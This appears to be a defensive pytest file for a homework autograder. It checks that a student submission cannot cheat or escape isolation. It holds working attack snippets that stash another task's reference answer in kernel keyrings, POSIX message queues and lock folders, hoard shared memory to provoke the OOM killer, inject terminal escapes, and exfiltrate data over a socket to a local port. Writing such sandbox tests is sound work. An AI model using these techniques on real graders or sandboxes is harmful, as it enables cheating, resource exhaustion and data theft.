"""Attacks on what outlives a process: kernel objects, shared memory, deep trees, hostile text, the seed.

As in ``test_attacks.py``, each submission solves ``adam_step`` honestly, leaves
``log_softmax_backward`` blank, and attacks from ``softmax_backward``'s region (graded first);
where the attack has a second half, it sits in ``log_softmax_backward``'s region (graded
next) and tries to use what the first half left. Each runs through the real
``run_autograder`` as root with the student user, behind every kernel fence and, where the
docs say what holds without one, with that fence turned off (``TINYATTN_GRADER_WITHOUT``).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import textwrap
import threading

import pytest

from tinyattn.homework import commands, trees
from tinyattn.homework.course import SHIPPED

from .gradescope_box import Box, require_fences, require_isolation, solved_student
from .test_attacks import (
    READ_THE_REFERENCE,
    TASKS,
    assert_only_the_honest_task_scores,
    assignment,
    attack,
    earned,
    manifest,
    student_visible,
)
from .test_trees_and_text import _deep

__all__ = ["assignment"]  # (the fixture, shared with test_attacks.py)

# The system calls the attacks make through ctypes (x86_64, aarch64)
CALLS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
rt = ctypes.CDLL("librt.so.1", use_errno=True)
rt.mq_open.restype = ctypes.c_int
rt.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
rt.mq_send.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_uint]
rt.mq_receive.restype = ctypes.c_ssize_t
rt.mq_receive.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_void_p]
rt.mq_unlink.argtypes = [ctypes.c_char_p]
"""

# The later task runs the stashed reference code, if it finds any
USE_THE_STASH = """
import textwrap
if body is None:
    raise FileNotFoundError("no stash left by the previous task")
namespace = {"ctx": ctx, "grad_output": grad_output, "np": np}
exec("def stashed():\\n" + textwrap.indent(textwrap.dedent(body.decode()), "    "), namespace)
return namespace["stashed"]()
"""

KEYRING_STASH = CALLS + READ_THE_REFERENCE + """
data, kept = body.encode(), []
for keyring in (-4, -5, -3):  # the user, user-session and session keyrings: whichever take it
    key = libc.syscall(ADD_KEY, b"user", b"tinyattn-stash", data, len(data), ctypes.c_int(keyring))
    if key >= 0:
        libc.syscall(KEYCTL, 5, ctypes.c_long(key), ctypes.c_uint(0x3F3F0000))  # SETPERM: all to the user too
        kept.append(keyring)
if not kept:
    raise OSError(ctypes.get_errno(), "add_key: " + os.strerror(ctypes.get_errno()))
return (grad_output,)
"""

KEYRING_UNSTASH = CALLS + """
body = None
for keyring in (-4, -5, -3):  # the user, user-session and session keyrings
    key = libc.syscall(KEYCTL, 10, ctypes.c_int(keyring), b"user", b"tinyattn-stash", 0)  # KEYCTL_SEARCH
    if key >= 0:
        buffer = ctypes.create_string_buffer(65536)
        n = libc.syscall(KEYCTL, 11, ctypes.c_long(key), buffer, 65536)  # KEYCTL_READ
        body = buffer.raw[:n] if n > 0 else None
        if body:
            break
""" + USE_THE_STASH

QUEUE_STASH = CALLS + READ_THE_REFERENCE + """
data = body.encode()
rt.mq_unlink(b"/tinyattn-stash")  # (one left by an earlier run of this attack on this machine)
queue = rt.mq_open(b"/tinyattn-stash", os.O_CREAT | os.O_WRONLY, 0o600, None)
if queue < 0 or rt.mq_send(queue, data, len(data), 0) != 0:
    raise OSError(ctypes.get_errno(), "mq: " + os.strerror(ctypes.get_errno()))
return (grad_output,)
"""

QUEUE_UNSTASH = CALLS + """
body = None
queue = rt.mq_open(b"/tinyattn-stash", os.O_RDWR | os.O_NONBLOCK, 0, None)
if queue >= 0:
    buffer = ctypes.create_string_buffer(1 << 16)
    n = rt.mq_receive(queue, buffer, 1 << 16, None)
    body = buffer.raw[:n] if n > 0 else None
    if body:
        rt.mq_send(queue, body, len(body), 0)  # (put back, for the task's next probe)
""" + USE_THE_STASH


def _stolen(assignment, results):
    return earned(results, "log_softmax_backward") == manifest(assignment)["tasks"]["log_softmax_backward"]["points"]


@pytest.mark.parametrize("without", ["", pytest.param("namespaces", marks=pytest.mark.slow)])
def test_another_task_s_reference_stashed_in_the_user_keyring_is_gone_before_that_task_runs(assignment, without):
    """The keyrings fence holds with or without namespaces: each child has a session keyring of its own, and
    the student user's keyrings are cleared before and after each task."""
    require_fences("keyrings")
    results, log, _ = attack(assignment, KEYRING_STASH, later=KEYRING_UNSTASH, isolated=True, without=without)
    assert_only_the_honest_task_scores(assignment, results, log)
    assert "FileNotFoundError: no stash left by the previous task" in log
    assert "add_key" not in log  # (the first half did stash it)


@pytest.mark.slow
def test_another_task_s_reference_stashed_in_a_posix_message_queue_is_gone_before_that_task_runs(assignment):
    """A POSIX message queue belongs to no process and, without /dev/mqueue mounted, to no folder the cleanup
    walks; in an IPC namespace of the task's own it dies with the task's last process."""
    require_fences("namespaces")
    results, log, _ = attack(assignment, QUEUE_STASH, later=QUEUE_UNSTASH, isolated=True)
    assert_only_the_honest_task_scores(assignment, results, log)
    assert "FileNotFoundError: no stash left by the previous task" in log and "mq:" not in log


@pytest.mark.slow
@pytest.mark.skipif(os.path.isdir("/dev/mqueue"), reason="with /dev/mqueue mounted, the cleanup deletes queues")
def test_without_namespaces_a_message_queue_stash_survives_and_the_log_says_so_first(assignment):
    results, log, _ = attack(assignment, QUEUE_STASH, later=QUEUE_UNSTASH, isolated=True, without="namespaces")
    assert log.startswith("isolation reduced: no namespaces (turned off)")
    assert results["output"].startswith("isolation reduced: no namespaces (turned off)")
    assert _stolen(assignment, results), log[-3000:]


# -- the seed: answers computed in one task for the next --------------------------------------------------


def _probes_source():
    with open(os.path.join(SHIPPED, "probes.py"), encoding="utf-8") as f:
        return f.read()


# The first half runs the (public) probes of log_softmax_backward in its own package, where that task's
# region holds the reference, with the seed it finds on the stack, and stashes every answer by its input.
ANSWERS_STASH = CALLS + """
import hashlib, json, sys, types, zlib
frame, seed = sys._getframe(), None
while frame is not None and seed is None:
    seed = frame.f_locals.get("seed") if isinstance(frame.f_locals.get("seed"), int) else None
    frame = frame.f_back
from tinyattn.autograd.core.ops import softmax as ops
table, real = {}, ops.LogSoftmax.backward
def recording(ctx, grad_output):
    out = real(ctx, grad_output)
    if out[0].size <= 4096:  # (the small probes' answers: the queue holds 80 kB)
        key = np.ascontiguousarray(grad_output).tobytes() + np.ascontiguousarray(ctx.saved_tensors[0]).tobytes()
        table[hashlib.sha256(key).hexdigest()] = out[0].tolist()
    return out
ops.LogSoftmax.backward = staticmethod(recording)
probes = types.ModuleType("public_probes")
exec(PROBES, probes.__dict__)
for name in dir(probes):
    if name.startswith("test_") and ("log_softmax" in name or "cross_entropy" in name):
        getattr(probes, name)(seed)
ops.LogSoftmax.backward = staticmethod(real)
data = zlib.compress(json.dumps(table).encode(), 9)
rt.mq_unlink(b"/tinyattn-answers")
queue = rt.mq_open(b"/tinyattn-answers", os.O_CREAT | os.O_WRONLY, 0o600, None)
for at in range(0, len(data), 8000):
    rt.mq_send(queue, data[at:at + 8000], len(data[at:at + 8000]), 0)
return (grad_output,)
"""

ANSWERS_UNSTASH = CALLS + """
import hashlib, json, zlib
queue = rt.mq_open(b"/tinyattn-answers", os.O_RDWR | os.O_NONBLOCK, 0, None)
if queue < 0:
    raise FileNotFoundError("no answers left by the previous task")
chunks, buffer = [], ctypes.create_string_buffer(1 << 16)
while (n := rt.mq_receive(queue, buffer, 1 << 16, None)) > 0:
    chunks.append(buffer.raw[:n])
for chunk in chunks:  # (put back, for the task's next probe)
    rt.mq_send(queue, chunk, len(chunk), 0)
data = b"".join(chunks)
table = json.loads(zlib.decompress(data))
key = np.ascontiguousarray(grad_output).tobytes() + np.ascontiguousarray(ctx.saved_tensors[0]).tobytes()
key = hashlib.sha256(key).hexdigest()
if key not in table:
    raise LookupError("the answers stashed by the previous task are for other inputs")
return (np.array(table[key]),)
"""


@pytest.mark.slow
def test_answers_computed_in_one_task_for_the_next_are_for_other_inputs(assignment):
    """With namespaces turned off, a message queue carries the answers to the next task, and they are right for
    the first task's seed; each task has a seed of its own, so they match none of the next task's inputs."""
    first = ANSWERS_STASH.replace("exec(PROBES,", f"exec({_probes_source()!r},")
    results, log, _ = attack(assignment, first, later=ANSWERS_UNSTASH, isolated=True, without="namespaces")
    assert_only_the_honest_task_scores(assignment, results, log)
    assert "LookupError: the answers stashed by the previous task are for other inputs" in log, log[-3000:]
    seeds = re.search(r"the probes' seeds come from (\w+)", log)
    assert seeds and commands.task_seed(seeds[1], "softmax_backward") != commands.task_seed(
        seeds[1], "log_softmax_backward")


# -- memory that belongs to no process --------------------------------------------------------------------

HOARD = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
libc.shmdt.argtypes = [ctypes.c_void_p]
held = 0
for _ in range(384):  # 384 segments of 8 MiB, each written through and detached: 3 GiB that no process maps,
    segment = libc.shmget(0, 8 << 20, 0o1600)  # so that the largest process, the kernel's choice, is the grader
    if segment < 0:  # (IPC_PRIVATE, IPC_CREAT | 0600)
        break
    where = libc.shmat(segment, None, 0)
    ctypes.memset(where, 1, 8 << 20)
    libc.shmdt(ctypes.c_void_p(where))
    held += 8
chunk = b"x" * (1 << 20)
try:
    with open("/dev/shm/tinyattn-hoard", "wb") as f:
        for _ in range(3 << 10):
            f.write(chunk)
            held += 1
except OSError as err:
    raise MemoryError(f"held {held} MiB, then {err}")
raise MemoryError(f"held {held} MiB")
"""


def _memory_cgroup():
    with open("/proc/self/cgroup", encoding="utf-8") as f:
        for line in f:
            number, controllers, path = line.rstrip("\n").split(":", 2)
            if "memory" in controllers.split(","):
                return "/sys/fs/cgroup/memory" + path.rstrip("/"), "memory.limit_in_bytes"
            if number == "0" and controllers == "" and os.path.isfile(f"/sys/fs/cgroup{path}/memory.max"):
                return "/sys/fs/cgroup" + path.rstrip("/"), "memory.max"
    return None, None


@pytest.fixture
def container():
    """A memory-limited "container" (a cgroup of 1.5 GiB) for run_autograder, as Gradescope's machines are."""
    parent, limit_file = _memory_cgroup()
    if parent is None or not os.access(parent, os.W_OK):
        pytest.skip("no memory cgroup to make a container in")
    folder = os.path.join(parent, f"tinyattn-test-container-{os.getpid()}")
    os.mkdir(folder)
    with open(os.path.join(folder, limit_file), "w") as f:
        f.write(str(3 << 29))
    yield ("sh", "-c", 'echo $$ > "$0/cgroup.procs" && exec "$@"', folder)
    for _ in range(50):
        try:
            os.rmdir(folder)
            break
        except OSError:
            import time

            time.sleep(0.1)


def _student_segments():
    import pwd

    uid = pwd.getpwnam("tinyattn-student").pw_uid
    with open("/proc/sysvipc/shm", encoding="utf-8") as f:
        header, *rows = [line.split() for line in f if line.strip()]
    return [row for row in rows if int(row[header.index("uid")]) == uid]


@pytest.mark.slow  # 3 s: it writes a gigabyte and a half before the limit stops it
def test_three_gigabytes_of_shared_memory_in_a_one_and_a_half_gigabyte_container_cost_only_the_attacker(
        assignment, container):
    require_fences("namespaces", "cgroup", "oom", "keyrings")
    results, log, _ = attack(assignment, HOARD, isolated=True, prefix=container)
    assert_only_the_honest_task_scores(assignment, results, log)
    assert "behind every fence" in log
    assert "reached the task's memory limit" in log or re.search(r"MemoryError: held \d+ MiB, then", log), log[-3000:]
    assert not _student_segments()


# -- hostile trees ----------------------------------------------------------------------------------------

DEEP = """
import os
top = os.getcwd()
for where in (top, "/tmp", "/dev/shm"):
    os.chdir(where)
    os.mkdir("tinyattn-deep")
    os.chdir("tinyattn-deep")
    for _ in range(5000):  # deeper than Python's recursion limit, and than a path may be long
        os.mkdir("d")
        os.chdir("d")
os.chdir(top)
return (grad_output,)
"""


@pytest.mark.parametrize("without", ["", pytest.param("namespaces", marks=pytest.mark.slow)])
def test_a_tree_five_thousand_folders_deep_in_the_home_and_in_tmp_is_removed_and_costs_nothing(
        assignment, without):
    results, log, _ = attack(assignment, DEEP, isolated=True, without=without)
    assert_only_the_honest_task_scores(assignment, results, log)
    assert "cleanup:" not in log
    assert not os.path.exists("/tmp/tinyattn-deep") and not os.path.exists("/dev/shm/tinyattn-deep")
    if without:
        assert re.search(r"deleted [1-9]\d* file\(s\) or IPC object\(s\)", log)


def _graded_with(assignment, tmp_path, add):
    """Grade, through run_autograder, adam_step solved with ``add(tinyattn folder)`` done to the submission;
    the results, the log and results.json's bytes."""
    venv = require_isolation()
    box = Box(os.path.join(assignment, "gradescope_autograder.zip"), venv)
    try:
        student = solved_student(assignment, str(tmp_path / "work"), ["adam_step"])
        shutil.copytree(os.path.join(student, "tinyattn"), os.path.join(box.submission, "tinyattn"))
        add(os.path.join(box.submission, "tinyattn"))
        results, log = box.run()
        with open(box.results_path, "rb") as f:
            return results, log, f.read()
    finally:
        trees.remove(box.root)


@pytest.mark.slow
def test_a_submission_holding_a_tree_five_thousand_folders_deep_is_graded(assignment, tmp_path):
    results, log, _ = _graded_with(assignment, tmp_path, lambda package: _deep(package, 5000))
    assert_only_the_honest_task_scores(assignment, results, log)
    assert "the submission was not all looked at: folders deeper than" in log


# -- hostile text -----------------------------------------------------------------------------------------

HOSTILE = "a lone surrogate \ud800, an escape \x1b[2J\x1b[31m, a carriage return\r, a bidi override \u202e"


def test_lone_surrogates_and_terminal_escapes_leave_results_json_valid_utf8_and_the_table_printed(assignment):
    code = f"""
        import os
        os.write(1, {HOSTILE!r}.encode("utf-8", "surrogatepass"))
        raise ValueError({HOSTILE!r})
    """
    results, log, box = attack(assignment, textwrap.dedent(code), isolated=False)
    assert_only_the_honest_task_scores(assignment, results, log)
    assert "\x1b" not in log and "\ud800" not in log and "\u202e" not in log
    assert "total" in log  # the table was printed
    visible = student_visible(results)
    assert "a lone surrogate \ufffd" in visible and "\x1b" not in visible


@pytest.mark.slow
def test_a_file_name_that_is_not_utf8_in_the_submission_is_listed_safely(assignment, tmp_path):
    def add(package):
        with open(os.path.join(os.fsencode(package), b"notes-\xff\x1b[2J.txt"), "w") as f:
            f.write("mine")

    results, log, raw = _graded_with(assignment, tmp_path, add)
    assert_only_the_honest_task_scores(assignment, results, log)
    text = raw.decode("utf-8")  # strict: valid UTF-8
    json.dumps(json.loads(text), ensure_ascii=False).encode("utf-8")  # and no lone surrogate escaped inside
    assert "notes-\ufffd\ufffd[2J.txt" in log and "\x1b" not in log


@pytest.mark.slow
def test_results_json_never_holds_a_lone_surrogate(assignment):
    results, log, box = attack(assignment, f"raise ValueError({HOSTILE!r})", isolated=False)
    assert_only_the_honest_task_scores(assignment, results, log)
    json.dumps(results, ensure_ascii=False).encode("utf-8")  # raises on a lone surrogate
    assert TASKS  # (the three tasks graded)


# The student user's persistent keyring outlives every session, and is linked into a fresh one on request
PERSISTENT_STASH = CALLS + READ_THE_REFERENCE + """
data = body.encode()
persistent = libc.syscall(KEYCTL, 22, ctypes.c_long(-1), ctypes.c_long(-3))  # KEYCTL_GET_PERSISTENT, into @s
if persistent < 0:
    raise OSError(ctypes.get_errno(), "get_persistent: " + os.strerror(ctypes.get_errno()))
key = libc.syscall(ADD_KEY, b"user", b"tinyattn-stash", data, len(data), ctypes.c_long(persistent))
if key < 0:
    raise OSError(ctypes.get_errno(), "add_key: " + os.strerror(ctypes.get_errno()))
return (grad_output,)
"""

PERSISTENT_UNSTASH = CALLS + """
body = None
persistent = libc.syscall(KEYCTL, 22, ctypes.c_long(-1), ctypes.c_long(-3))
key = libc.syscall(KEYCTL, 10, ctypes.c_long(persistent), b"user", b"tinyattn-stash", 0)  # KEYCTL_SEARCH
if key >= 0:
    buffer = ctypes.create_string_buffer(65536)
    n = libc.syscall(KEYCTL, 11, ctypes.c_long(key), buffer, 65536)  # KEYCTL_READ
    body = buffer.raw[:n] if n > 0 else None
""" + USE_THE_STASH


def test_another_task_s_reference_stashed_in_the_persistent_keyring_is_gone_before_that_task_runs(assignment):
    require_fences("keyrings")
    results, log, _ = attack(assignment, PERSISTENT_STASH, later=PERSISTENT_UNSTASH, isolated=True)
    assert_only_the_honest_task_scores(assignment, results, log)
    assert "FileNotFoundError: no stash left by the previous task" in log
    assert "get_persistent" not in log and "add_key" not in log  # (the first half did stash it)


# A shared folder outside /tmp (the lock folder, writable by every user), and more entries before the stash
# than a cleanup that deletes entry by entry looks at: the stash goes in the entry a listing gives last
LOCK_STASH = READ_THE_REFERENCE + """
import os
for folder in ("/run/lock", "/var/lock"):
    try:
        for i in range(120_000):
            os.close(os.open(f"{folder}/tinyattn-{i}", os.O_CREAT | os.O_WRONLY, 0o644))
        last = [entry.name for entry in os.scandir(folder)][-1]
        with open(f"{folder}/{last}", "w") as f:
            f.write("stash:" + body)
        break
    except OSError:
        pass
return (grad_output,)
"""

LOCK_UNSTASH = """
import os
body = None
for folder in ("/run/lock", "/var/lock"):
    try:
        for entry in os.scandir(folder):
            if entry.name.startswith("tinyattn-") and entry.stat().st_size:
                with open(entry.path, "rb") as f:
                    text = f.read()
                if text.startswith(b"stash:"):
                    body = text[len(b"stash:"):]
                    break
    except OSError:
        pass
""" + USE_THE_STASH


@pytest.mark.skipif(not os.path.isdir("/run/lock"), reason="no lock folder here")
def test_another_task_s_reference_stashed_in_the_lock_folder_is_gone_before_that_task_runs(assignment):
    require_fences("namespaces")
    results, log, _ = attack(assignment, LOCK_STASH, later=LOCK_UNSTASH, isolated=True, timeout=120)
    assert_only_the_honest_task_scores(assignment, results, log)
    assert "FileNotFoundError: no stash left by the previous task" in log


# Every folder the task's code can write in, found by walking each filesystem it sees that is not mounted
# read-only (as it sees it: in its own namespaces), with the namespaces it is in
ENUMERATE = """
import json, os
seen = {}
with open("/proc/self/mountinfo") as f:
    for line in f:
        before, _, after = line.partition(" - ")
        fields = before.split()
        seen[fields[4].encode().decode("unicode_escape")] = (after.split()[0], "ro" in fields[5].split(","))
writable, looked = [], 0
for point, (kind, read_only) in seen.items():
    if read_only or point in ("/proc", "/sys") or point.startswith(("/proc/", "/sys/")):
        continue
    try:
        device = os.stat(point).st_dev
    except OSError:
        continue
    todo = [point]
    while todo and looked < 300_000:
        folder = todo.pop()
        looked += 1
        if os.access(folder, os.W_OK):
            writable.append([folder, point, kind])
        try:
            for entry in os.scandir(folder):
                if entry.is_dir(follow_symlinks=False) and entry.stat(follow_symlinks=False).st_dev == device:
                    todo.append(entry.path)
        except OSError:
            pass
names = {kind: os.readlink(f"/proc/self/ns/{kind}") for kind in ("ipc", "mnt")}
rw = [[point, kind] for point, (kind, read_only) in seen.items() if not read_only]
print("WRITABLE " + json.dumps({"writable": writable, "looked": looked, "namespaces": names, "rw": rw}), flush=True)
return (grad_output,)
"""


def test_every_place_the_task_s_code_can_write_is_fresh_for_the_task():
    """Walked as the student user behind every fence, through run_autograder: each folder it may write in is on a
    filesystem made for the task alone (a fresh tmpfs at one of the scratch folders, its home, its own
    /dev/mqueue); everything else is read-only. Its System V and POSIX IPC live in a namespace of its own; the
    keyrings that outlive a session are cleared (the stash attacks above)."""
    require_fences("namespaces", "cgroup", "oom", "keyrings")
    import tempfile

    from tinyattn.homework import confine

    out = tempfile.mkdtemp()
    commands.assign(os.path.join(out, "hw"), TASKS, {"softmax_backward": "open", "log_softmax_backward": "open"})
    results, log, _ = attack(os.path.join(out, "hw"), ENUMERATE, isolated=True, timeout=120)
    line = next(x for x in log.splitlines() if "WRITABLE " in x)
    found = json.loads(line.split("WRITABLE ", 1)[1])
    assert found["looked"] < 300_000, "the walk did not finish"
    fresh = {p for p in confine.SCRATCH if os.path.isdir(p) and not os.path.islink(p)} | {"/dev/mqueue"}
    for folder, point, kind in found["writable"]:
        is_home = point.endswith("/home") and "/tinyattn-task-" in point
        assert (point in fresh or is_home) and kind in ("tmpfs", "mqueue"), (folder, point, kind)
    assert {p for _, p, _ in found["writable"]} >= {"/tmp", "/dev/shm"}  # (the walk saw the fresh ones)
    kernel = set(confine.KERNEL_FILESYSTEMS)
    for point, kind in found["rw"]:  # every other filesystem is read-only, whoever may write in it
        fresh_here = point in fresh or (point.endswith("/home") and "/tinyattn-task-" in point)
        assert fresh_here or kind in kernel or point.startswith(("/proc/", "/sys/")), (point, kind)
    for kind, name in found["namespaces"].items():
        assert name != os.readlink(f"/proc/self/ns/{kind}"), kind


# The task's code sends what it can read to a port on the grader's machine (a classmate's listener, say)
EXFILTRATE = """
import socket
with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as s:
    s.sendall(b"what the task's code could read")
"""


@pytest.mark.parametrize("without", ["", pytest.param("network", marks=pytest.mark.slow)])
def test_the_task_s_code_reaches_no_port_of_the_grader_s_machine(assignment, without):
    """Behind every fence the connection fails (a network namespace with no interface up); with the network
    fence turned off, the same code reaches the listener: the attack is real."""
    require_fences()
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    done = threading.Event()

    def listen() -> None:
        while not done.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(5)
                received.append(connection.recv(1000))

    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    try:
        code = EXFILTRATE.replace("@PORT@", str(server.getsockname()[1]))
        results, log, _ = attack(assignment, code, isolated=True, without=without)
    finally:
        done.set()
        listener.join(5)
        server.close()
    assert_only_the_honest_task_scores(assignment, results, log)
    if without:
        assert received and set(received) == {b"what the task's code could read"}, log[-3000:]  # (once a probe)
    else:
        assert received == [], received
        assert "Network is unreachable" in log, log[-3000:]
